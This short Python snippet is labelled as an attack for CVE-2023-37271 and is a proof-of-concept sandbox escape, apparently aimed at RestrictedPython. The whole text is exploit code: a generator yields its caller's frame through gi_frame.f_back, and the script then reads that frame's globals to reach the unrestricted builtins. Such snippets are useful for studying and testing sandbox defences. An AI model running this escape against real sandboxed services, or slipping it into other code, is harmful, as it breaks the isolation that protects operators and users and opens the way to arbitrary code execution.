# attack: walk out of the sandbox frame from a generator (CVE-2023-37271)
def gen():
    yield g.gi_frame.f_back


g = gen()
frame = next(g)
print(frame.f_globals["__builtins__"], frame.f_back)
